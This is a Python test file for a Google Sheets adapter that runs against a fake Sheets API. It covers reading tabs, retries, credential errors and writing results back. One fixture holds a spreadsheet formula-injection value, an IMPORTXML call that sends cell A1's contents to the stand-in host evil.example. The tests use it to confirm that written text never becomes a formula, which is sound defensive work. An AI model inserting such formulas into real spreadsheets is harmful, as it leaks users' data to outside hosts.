"""GoogleSheets against the fake Sheets API: real gspread, real key signing, real HTTP."""

from __future__ import annotations

import datetime as dt
import math
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from fakes.service_account import ServiceAccount, make_service_account
from fakes.sheets_api import FakeSheetsApi, percent_cell, serial_number, tabs_from_workbook

from suivi.adapters.google_sheets import METADATA_FIELDS, GoogleSheets, open_google_sheet
from suivi.adapters.sheets import SourceError, Workbook
from suivi.schema import OwnedTab
from suivi.settings import Env

# The fixtures sheets_api, service_account and service_account_file.
pytest_plugins = ["fakes.sheets_api"]

KEY = "1TpmSuiviAgadir2026xYz0123456789abcdefGHIJ"
TRACKING = OwnedTab.TRACKING.value
CHECKS = OwnedTab.CHECKS.value

TEAM_TABS: dict[str, list[list[Any]]] = {
    "Activités 2026": [
        ["Plan d'action TPM", None, None, None],  # merged over A1:D1 below
        [],
        ["ID", "Fin prévue", "Avancement", "Budget prévu"],
        ["A1.1", dt.date(2026, 12, 31), percent_cell(0.45), 1.45],
        ["A1.2", dt.datetime(2025, 3, 1), percent_cell(1.0), 120000],
        ["A1.3", None, None, None, "note en marge"],
    ],
    "L'équipe": [["Nom", "Actif"], ["Salma", True], ["Karim", False]],
    "Vide": [],
    "Mesures (brouillon)": [["Code indicateur", "Valeur"], ["IO1", 4]],
}


@pytest.fixture
def sheet(sheets_api: FakeSheetsApi) -> FakeSheetsApi:
    """The team's spreadsheet, shared with the service account as Editor."""
    sheets_api.add_spreadsheet(KEY, "Suivi TPM 2026", TEAM_TABS)
    sheets_api.merge(KEY, "Activités 2026", "A1:D1")
    return sheets_api


@pytest.fixture
def sleeps() -> list[float]:
    """The waits the retry loop asked for, instead of waiting."""
    return []


@pytest.fixture
def source(sheet: FakeSheetsApi, service_account_file: Path, sleeps: list[float]) -> GoogleSheets:
    """The adapter as production builds it: key file, endpoint override, no real sleeping."""
    return GoogleSheets(
        KEY, credentials=service_account_file, endpoint=sheet.url, timeout=5, sleep=sleeps.append
    )


def team_values(fake: FakeSheetsApi) -> dict[str, list[list[Any]]]:
    """What every team tab holds, formulas included, as the fake stores it."""
    tabs = [tab.title for tab in fake.spreadsheet(KEY).tabs if tab.title in TEAM_TABS]
    return {title: fake.values(KEY, title, "FORMULA") for title in tabs}


# -- reading -----------------------------------------------------------------------------


def test_read_returns_every_tab_as_unformatted_values(source: GoogleSheets) -> None:
    tabs = source.read_tabs()

    assert list(tabs) == list(TEAM_TABS)
    assert tabs["Activités 2026"] == [
        ["Plan d'action TPM", None, None, None, None],
        [None, None, None, None, None],
        ["ID", "Fin prévue", "Avancement", "Budget prévu", None],
        ["A1.1", 46387, 0.45, 1.45, None],  # 31/12/2026 is serial 46387
        ["A1.2", 45717, 1, 120000, None],
        ["A1.3", None, None, None, "note en marge"],
    ]
    assert tabs["L'équipe"] == [["Nom", "Actif"], ["Salma", True], ["Karim", False]]
    assert tabs["Vide"] == []
    assert tabs["Mesures (brouillon)"] == [["Code indicateur", "Valeur"], ["IO1", 4]]


def test_read_costs_one_token_and_two_read_requests(
    source: GoogleSheets, sheet: FakeSheetsApi
) -> None:
    source.read_tabs()

    assert sheet.count("token") == 1
    assert sheet.count("metadata") == 1
    assert sheet.count("values.batchGet") == 1
    assert sheet.count() == 3
    metadata, batch_get = (call for call in sheet.log if call.kind != "token")
    assert metadata.query["fields"] == [METADATA_FIELDS]
    assert batch_get.query["ranges"] == [
        "'Activités 2026'",
        "'L''équipe'",
        "'Vide'",
        "'Mesures (brouillon)'",
    ]
    assert batch_get.query["valueRenderOption"] == ["UNFORMATTED_VALUE"]
    assert batch_get.query["dateTimeRenderOption"] == ["SERIAL_NUMBER"]
    assert batch_get.query["majorDimension"] == ["ROWS"]

    source.read_tabs()  # the token is reused until it expires
    assert (sheet.count("token"), sheet.reads) == (1, 4)


def test_french_display_never_reaches_the_reader(
    source: GoogleSheets, sheet: FakeSheetsApi
) -> None:
    shown = sheet.values(KEY, "Activités 2026", "FORMATTED_VALUE")
    assert shown[3][1:4] == ["31/12/2026", "45\u202f%", "1,45"]  # what a French user sees

    cells = [cell for row in source.read_tabs()["Activités 2026"] for cell in row]

    assert not {"31/12/2026", "45\u202f%", "1,45", "01/03/2025", "VRAI"} & {
        str(cell) for cell in cells
    }


def test_describe_names_the_spreadsheet_once_read(source: GoogleSheets) -> None:
    assert source.describe() == f"Google Sheet {KEY}"
    source.read_tabs()
    assert source.describe() == f"Google Sheet 'Suivi TPM 2026' ({KEY})"
    assert (source.locale, source.time_zone) == ("fr_FR", "Africa/Casablanca")


def test_endpoint_may_end_with_v4(sheet: FakeSheetsApi, service_account_file: Path) -> None:
    source = GoogleSheets(
        KEY, credentials=service_account_file, endpoint=f"{sheet.url}/v4/", timeout=5
    )
    assert source.read_tabs()["Vide"] == []


def test_a_spreadsheet_without_tabs_reads_as_nothing(
    sheets_api: FakeSheetsApi, service_account_file: Path
) -> None:
    sheets_api.add_spreadsheet(KEY, "Sans onglet", {"Seul": []})
    sheets_api.spreadsheet(KEY).tabs.clear()
    source = GoogleSheets(KEY, credentials=service_account_file, endpoint=sheets_api.url, timeout=5)

    assert source.read_tabs() == {}
    assert sheets_api.count("values.batchGet") == 0


# -- retries and errors ------------------------------------------------------------------


def test_quota_twice_then_success_waits_with_capped_jitter(
    source: GoogleSheets, sheet: FakeSheetsApi, sleeps: list[float]
) -> None:
    sheet.fail_next(429, times=2, match="values.batchGet")

    tabs = source.read_tabs()

    assert tabs["L'équipe"][1] == ["Salma", True]
    assert sheet.count("values.batchGet") == 3
    assert len(sleeps) == 2
    assert 0 <= sleeps[0] <= 1 and 0 <= sleeps[1] <= 2  # full jitter under 1 s, then 2 s


def test_server_errors_past_the_budget_are_transient(
    sheet: FakeSheetsApi, service_account_file: Path, sleeps: list[float]
) -> None:
    source = GoogleSheets(
        KEY, credentials=service_account_file, endpoint=sheet.url, retries=2, sleep=sleeps.append
    )
    sheet.fail_next(500, times=3)

    with pytest.raises(SourceError) as raised:
        source.read_tabs()

    assert raised.value.transient
    assert "Google quota (refills each minute) / server error" in str(raised.value)
    assert "will retry" in str(raised.value)
    assert KEY in str(raised.value)
    assert sheet.count("metadata") == 3  # first call + 2 retries, then it gives up
    assert len(sleeps) == 2


def test_backoff_is_capped(sheet: FakeSheetsApi, service_account_file: Path) -> None:
    sleeps: list[float] = []
    source = GoogleSheets(
        KEY,
        credentials=service_account_file,
        endpoint=sheet.url,
        retries=6,
        backoff_cap=3,
        sleep=sleeps.append,
    )
    sheet.fail_next(503, times=6, match="metadata")

    source.read_tabs()

    assert len(sleeps) == 6
    assert max(sleeps) <= 3


def test_a_timeout_is_retried_then_reported_as_transient(
    sheet: FakeSheetsApi, service_account_file: Path, sleeps: list[float]
) -> None:
    sheet.fail_next("timeout", match="values.batchGet")
    patient = GoogleSheets(
        KEY,
        credentials=service_account_file,
        endpoint=sheet.url,
        timeout=0.3,
        retries=1,
        sleep=sleeps.append,
    )
    assert patient.read_tabs()["Vide"] == []

    sheet.fail_next("timeout", match="metadata")
    impatient = GoogleSheets(
        KEY, credentials=service_account_file, endpoint=sheet.url, timeout=0.3, retries=0
    )
    with pytest.raises(SourceError) as raised:
        impatient.read_tabs()
    assert raised.value.transient
    assert "did not answer in time to read the list of tabs" in str(raised.value)


def test_a_dropped_connection_is_retried(
    source: GoogleSheets, sheet: FakeSheetsApi, sleeps: list[float]
) -> None:
    sheet.fail_next("reset", match="metadata")

    assert source.read_tabs()["Vide"] == []
    assert sheet.count("metadata") == 2
    assert len(sleeps) == 1


def test_unshared_spreadsheet_names_the_service_account(
    source: GoogleSheets, sheet: FakeSheetsApi, service_account: ServiceAccount, sleeps: list[float]
) -> None:
    sheet.set_access(KEY, "none")

    with pytest.raises(SourceError) as raised:
        source.read_tabs()

    message = str(raised.value)
    assert f"share the spreadsheet with the service account {service_account.email}" in message
    assert "(Editor for write-back)" in message
    assert not raised.value.transient
    assert (sheet.count("metadata"), sleeps) == (1, [])  # a 403 is never retried


def test_viewer_share_reads_but_cannot_write_back(
    source: GoogleSheets, sheet: FakeSheetsApi, service_account: ServiceAccount
) -> None:
    sheet.set_access(KEY, "reader")
    assert source.read_tabs()["L'équipe"][0] == ["Nom", "Actif"]

    with pytest.raises(SourceError) as raised:
        source.write_tabs({TRACKING: [["ID"], ["A1.1"]]})

    assert service_account.email in str(raised.value)
    assert "Editor" in str(raised.value)
    assert TRACKING not in [tab.title for tab in sheet.spreadsheet(KEY).tabs]


def test_deleted_spreadsheet_says_check_the_key(
    source: GoogleSheets, sheet: FakeSheetsApi, sleeps: list[float]
) -> None:
    sheet.delete_spreadsheet(KEY)

    with pytest.raises(
        SourceError, match=r"spreadsheet not found: check the key/URL in config"
    ) as raised:
        source.read_tabs()

    assert not raised.value.transient
    assert sleeps == []


def test_a_bad_request_is_not_retried(
    source: GoogleSheets, sheet: FakeSheetsApi, sleeps: list[float]
) -> None:
    sheet.fail_next(400, match="values.batchGet")

    with pytest.raises(SourceError, match=r"Google refused to read the tabs \(400") as raised:
        source.read_tabs()

    assert not raised.value.transient
    assert (sheet.count("values.batchGet"), sleeps) == (1, [])


def test_a_key_google_does_not_know_says_check_the_key(
    sheet: FakeSheetsApi, service_account: ServiceAccount, tmp_path: Path
) -> None:
    stranger = make_service_account(sheet.token_url, key_seed=1)  # same e-mail, another key
    assert stranger.email == service_account.email
    source = GoogleSheets(
        KEY, credentials=stranger.write(tmp_path / "old-key.json"), endpoint=sheet.url
    )

    with pytest.raises(SourceError, match="check the service-account key") as raised:
        source.read_tabs()

    assert "Invalid JWT Signature" in str(raised.value)
    assert not raised.value.transient
    assert (sheet.count("token"), sheet.reads) == (1, 0)


def test_an_expired_token_is_renewed(source: GoogleSheets, sheet: FakeSheetsApi) -> None:
    source.read_tabs()
    sheet.revoke_tokens()

    assert source.read_tabs()["Vide"] == []
    assert sheet.count("token") == 2
    assert [call.status for call in sheet.log if call.kind == "metadata"] == [200, 401, 200]


# -- credentials and the factory ---------------------------------------------------------


def test_factory_reads_the_key_file_named_by_the_environment(
    sheet: FakeSheetsApi, service_account_file: Path
) -> None:
    env = Env(google_credentials=service_account_file, sheets_endpoint=sheet.url)

    source = open_google_sheet(KEY, env)

    assert source.read_tabs()["Mesures (brouillon)"][1] == ["IO1", 4]


def test_factory_prefers_credentials_given_as_a_secret(
    sheet: FakeSheetsApi, service_account: ServiceAccount
) -> None:
    env = Env(google_credentials=None, sheets_endpoint=sheet.url)

    source = open_google_sheet(KEY, env, credentials_info=service_account.info)

    assert source.service_account_email == service_account.email
    assert source.read_tabs()["Vide"] == []


def test_factory_without_a_key_says_which_variable_to_set() -> None:
    with pytest.raises(SourceError, match="set SUIVI_GOOGLE_CREDENTIALS"):
        open_google_sheet(KEY, Env(google_credentials=None, sheets_endpoint=None))


def test_a_missing_key_file_names_the_variable(tmp_path: Path) -> None:
    with pytest.raises(SourceError, match="not found: check SUIVI_GOOGLE_CREDENTIALS"):
        GoogleSheets(KEY, credentials=tmp_path / "nowhere.json")


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        ("{not json", "cannot be read"),
        ('{"type": "authorized_user", "client_id": "x"}', "cannot be used"),
        ('{"type": "gdch_service_account"}', "is not Google credentials suivi knows"),
        ('{"type": "service_account", "client_email": "a@b.c"}', "check the service-account key"),
    ],
)
def test_an_unusable_key_file_is_a_clear_error(tmp_path: Path, content: str, expected: str) -> None:
    path = tmp_path / "key.json"
    path.write_text(content, encoding="utf-8")

    with pytest.raises(SourceError, match=expected):
        GoogleSheets(KEY, credentials=path)


def test_an_endpoint_that_is_not_a_url_is_refused(service_account: ServiceAccount) -> None:
    with pytest.raises(SourceError, match="SUIVI_SHEETS_ENDPOINT"):
        GoogleSheets(KEY, credentials=service_account.info, endpoint="127.0.0.1:8080")


# -- writing back ------------------------------------------------------------------------

TRACKING_ROWS: list[list[Any]] = [
    ["ID", "Statut calculé", "Retard (jours)", "Fin projetée", "Alertes", "Mis à jour le"],
    ["A1.1", "en_retard", 12, dt.date(2027, 1, 12), "en_retard", dt.datetime(2026, 11, 29, 7, 30)],
    ["A1.2", "in_progress", None, None, "", dt.datetime(2026, 11, 29, 7, 30)],
]
CHECKS_ROWS: list[list[Any]] = [
    ["Onglet", "Cellule", "Valeur", "Problème"],
    ["Activités 2026", "C5", '=IMPORTXML("https://evil.example/?q="&A1, "//a")', "date illisible"],
    ["Activités 2026", "D6", "=1+1", "nombre attendu"],
]


def test_first_run_creates_the_tabs_then_writes_once(
    source: GoogleSheets, sheet: FakeSheetsApi
) -> None:
    before = team_values(sheet)
    source.read_tabs()
    sheet.reset_log()

    source.write_tabs({TRACKING: TRACKING_ROWS, CHECKS: CHECKS_ROWS})

    assert sheet.count() == 2  # one addSheet batch (first run only) + one values write
    structure, values = sheet.log
    assert structure.kind == "batchUpdate"
    assert [next(iter(request)) for request in structure.body["requests"]] == [
        "addSheet",
        "addSheet",
    ]
    assert values.kind == "values.batchUpdate"
    assert values.body["valueInputOption"] == "RAW"
    assert sheet.values(KEY, TRACKING) == [
        ["ID", "Statut calculé", "Retard (jours)", "Fin projetée", "Alertes", "Mis à jour le"],
        ["A1.1", "en_retard", 12, "2027-01-12", "en_retard", "2026-11-29 07:30"],
        ["A1.2", "in_progress", "", "", "", "2026-11-29 07:30"],
    ]
    assert team_values(sheet) == before
    tabs = [tab.title for tab in sheet.spreadsheet(KEY).tabs]
    assert tabs == [*TEAM_TABS, TRACKING, CHECKS]


def test_a_new_tracking_tab_gets_its_layout_in_the_same_structural_request(
    source: GoogleSheets, sheet: FakeSheetsApi
) -> None:
    from suivi.sheet.dashboard import tracking_layout

    layout = tracking_layout(TRACKING_ROWS, ("fr",))
    source.read_tabs()
    sheet.reset_log()

    source.write_tabs({TRACKING: TRACKING_ROWS, CHECKS: CHECKS_ROWS}, layouts={TRACKING: layout})

    assert sheet.count() == 2  # still one structural batch + one RAW values write
    structure, values = sheet.log
    kinds = [next(iter(request)) for request in structure.body["requests"]]
    assert kinds.count("addSheet") == 2 and "setBasicFilter" in kinds
    assert kinds.count("addConditionalFormatRule") == len(layout.colours) > 0
    assert values.body["valueInputOption"] == "RAW"
    tab = sheet.spreadsheet(KEY).tab(TRACKING)
    assert tab is not None and tab.frozen_rows == 1
    rules = [
        entry["addConditionalFormatRule"]["rule"]
        for entry in tab.layout.requests
        if "addConditionalFormatRule" in entry
    ]
    texts = {rule["booleanRule"]["condition"]["values"][0]["userEnteredValue"] for rule in rules}
    assert {"En retard", "À risque", "Terminée"} <= texts
    checks = sheet.spreadsheet(KEY).tab(CHECKS)
    assert (
        checks is not None and checks.layout.requests == []
    )  # only the tab that was given a layout

    sheet.reset_log()
    source.write_tabs({TRACKING: TRACKING_ROWS, CHECKS: CHECKS_ROWS}, layouts={TRACKING: layout})
    assert [call.kind for call in sheet.log] == ["values.batchUpdate"]  # layout not sent again


def test_written_text_never_becomes_a_formula(source: GoogleSheets, sheet: FakeSheetsApi) -> None:
    source.write_tabs({CHECKS: CHECKS_ROWS})

    formulas = sheet.values(KEY, CHECKS, "FORMULA")
    assert formulas[1][2] == '=IMPORTXML("https://evil.example/?q="&A1, "//a")'
    assert sheet.values(KEY, CHECKS, "UNFORMATTED_VALUE")[2][2] == "=1+1"  # not 2
    assert all(
        cell.formula is None for tab in sheet.spreadsheet(KEY).tabs for cell in tab.cells.values()
    )
    assert not [call for call in sheet.log if "USER_ENTERED" in str(call.body) + str(call.query)]


def test_the_fake_would_have_run_a_user_entered_formula(
    sheet: FakeSheetsApi, source: GoogleSheets
) -> None:
    """The check above can fail: the same text written USER_ENTERED becomes a formula."""
    source.write_tabs({CHECKS: [["x"]]})
    source._http.values_batch_update(  # the path the adapter must never take
        KEY,
        {
            "valueInputOption": "USER_ENTERED",
            "data": [{"range": f"'{CHECKS}'!A1", "values": [["=1+1"]]}],
        },
    )

    assert sheet.values(KEY, CHECKS, "FORMULA") == [["=1+1"]]
    assert sheet.values(KEY, CHECKS, "UNFORMATTED_VALUE") == [[2]]


def test_steady_state_costs_one_write_and_clears_stale_rows(
    source: GoogleSheets, sheet: FakeSheetsApi
) -> None:
    source.read_tabs()
    source.write_tabs({TRACKING: TRACKING_ROWS, CHECKS: CHECKS_ROWS})
    before = team_values(sheet)
    sheet.reset_log()

    source.write_tabs({TRACKING: TRACKING_ROWS[:2], CHECKS: [CHECKS_ROWS[0]]})

    assert [call.kind for call in sheet.log] == ["values.batchUpdate"]
    assert sheet.values(KEY, TRACKING) == [
        ["ID", "Statut calculé", "Retard (jours)", "Fin projetée", "Alertes", "Mis à jour le"],
        ["A1.1", "en_retard", 12, "2027-01-12", "en_retard", "2026-11-29 07:30"],
    ]
    assert sheet.values(KEY, CHECKS) == [["Onglet", "Cellule", "Valeur", "Problème"]]
    assert team_values(sheet) == before


def test_next_run_with_a_fresh_object_still_clears_what_the_last_one_wrote(
    sheet: FakeSheetsApi, service_account_file: Path
) -> None:
    first = GoogleSheets(KEY, credentials=service_account_file, endpoint=sheet.url)
    first.write_tabs({TRACKING: TRACKING_ROWS, CHECKS: CHECKS_ROWS})
    sheet.reset_log()

    second = GoogleSheets(KEY, credentials=service_account_file, endpoint=sheet.url)
    second.read_tabs()
    second.write_tabs({TRACKING: [["ID"]], CHECKS: []})

    assert sheet.writes == 1
    assert sheet.values(KEY, TRACKING) == [["ID"]]
    assert sheet.values(KEY, CHECKS) == []

    third = GoogleSheets(KEY, credentials=service_account_file, endpoint=sheet.url)
    third.write_tabs({TRACKING: [["ID", "x"], ["A1.1", "y"]], CHECKS: []})  # no read first
    assert sheet.values(KEY, TRACKING) == [["ID", "x"], ["A1.1", "y"]]


def test_write_back_refuses_the_team_tabs(source: GoogleSheets, sheet: FakeSheetsApi) -> None:
    with pytest.raises(ValueError, match="refusing to write the team's own tabs"):
        source.write_tabs({TRACKING: [["ID"]], "Activités 2026": [["ID"]]})

    assert sheet.count() == 0


def test_an_owned_tab_grows_when_the_content_outgrows_its_grid(
    source: GoogleSheets, sheet: FakeSheetsApi
) -> None:
    source.write_tabs({CHECKS: [["Onglet"]]})
    sheet.reset_log()
    rows = [["Onglet", "Cellule"], *[["Activités 2026", f"C{n}"] for n in range(1, 1200)]]

    source.write_tabs({CHECKS: rows})

    structure, values = sheet.log
    assert next(iter(structure.body["requests"][0])) == "updateSheetProperties"
    assert values.kind == "values.batchUpdate"
    assert len(sheet.values(KEY, CHECKS)) == 1200


def test_a_timed_out_tab_creation_is_not_repeated(
    sheet: FakeSheetsApi, service_account_file: Path, sleeps: list[float]
) -> None:
    source = GoogleSheets(
        KEY, credentials=service_account_file, endpoint=sheet.url, timeout=0.3, sleep=sleeps.append
    )
    source.read_tabs()
    sheet.fail_next("timeout", match="batchUpdate")  # applied by Google, answer lost

    source.write_tabs({TRACKING: TRACKING_ROWS, CHECKS: CHECKS_ROWS})

    titles = [tab.title for tab in sheet.spreadsheet(KEY).tabs]
    assert titles.count(TRACKING) == titles.count(CHECKS) == 1
    assert sheet.count("batchUpdate") == 1
    assert sheet.values(KEY, TRACKING)[0][0] == "ID"


def test_values_are_written_as_plain_literals(source: GoogleSheets, sheet: FakeSheetsApi) -> None:
    row = [
        np.int64(3),
        np.float64(2.5),
        math.nan,
        pd.NaT,
        pd.NA,
        np.bool_(True),
        pd.Timestamp("2026-12-31"),
    ]

    source.write_tabs({TRACKING: [["a", "b", "c", "d", "e", "f", "g"], row]})

    assert sheet.values(KEY, TRACKING)[1] == [3, 2.5, "", "", "", True, "2026-12-31"]


def test_write_back_with_nothing_to_write_sends_nothing(
    source: GoogleSheets, sheet: FakeSheetsApi
) -> None:
    source.write_tabs({})
    assert sheet.count() == 0


# -- links -------------------------------------------------------------------------------


def test_cell_url_opens_the_tab_at_the_cell(source: GoogleSheets, sheet: FakeSheetsApi) -> None:
    source.read_tabs()
    gid = sheet.spreadsheet(KEY).tab("L'équipe").sheet_id  # type: ignore[union-attr]
    base = f"https://docs.google.com/spreadsheets/d/{KEY}/edit"

    assert source.cell_url("L'équipe", "B3") == f"{base}#gid={gid}&range=B3"
    assert source.cell_url("Activités 2026", "A1") == f"{base}#gid=0&range=A1"
    assert source.cell_url("L'équipe", "") == f"{base}#gid={gid}"
    assert source.cell_url("Pas un onglet", "A1") is None


def test_cell_url_knows_the_tabs_it_created(source: GoogleSheets, sheet: FakeSheetsApi) -> None:
    source.write_tabs({CHECKS: CHECKS_ROWS})
    sheet.reset_log()
    gid = sheet.spreadsheet(KEY).tab(CHECKS).sheet_id  # type: ignore[union-attr]

    assert (
        source.cell_url(CHECKS, "C2")
        == f"https://docs.google.com/spreadsheets/d/{KEY}/edit#gid={gid}&range=C2"
    )
    assert sheet.count() == 0


def test_cell_url_is_none_when_the_sheet_cannot_be_read(
    source: GoogleSheets, sheet: FakeSheetsApi
) -> None:
    sheet.set_access(KEY, "none")
    assert source.cell_url("L'équipe", "B3") is None


# -- the demo workbook, served as a Google Sheet -----------------------------------------

DEMO = Path(__file__).resolve().parents[1] / "config" / "demo" / "tpm.xlsx"


@pytest.mark.skipif(not DEMO.exists(), reason=f"demo workbook {DEMO.name} not found")
def test_the_demo_workbook_reads_the_same_from_google_as_from_the_file(
    sheets_api: FakeSheetsApi, service_account_file: Path
) -> None:
    sheets_api.add_spreadsheet(KEY, "TPM", tabs_from_workbook(DEMO))
    source = GoogleSheets(KEY, credentials=service_account_file, endpoint=sheets_api.url)

    from_google = source.read_tabs()

    from_file = Workbook(DEMO).read_tabs()
    assert list(from_google) == list(from_file)
    for title, rows in from_file.items():
        # Google sends serial numbers for dates and leaves out trailing empty rows.
        as_google = [
            [serial_number(cell) if isinstance(cell, dt.date) else cell for cell in row]
            for row in rows
        ]
        while as_google and all(cell is None for cell in as_google[-1]):
            as_google.pop()
        assert from_google[title] == as_google, title
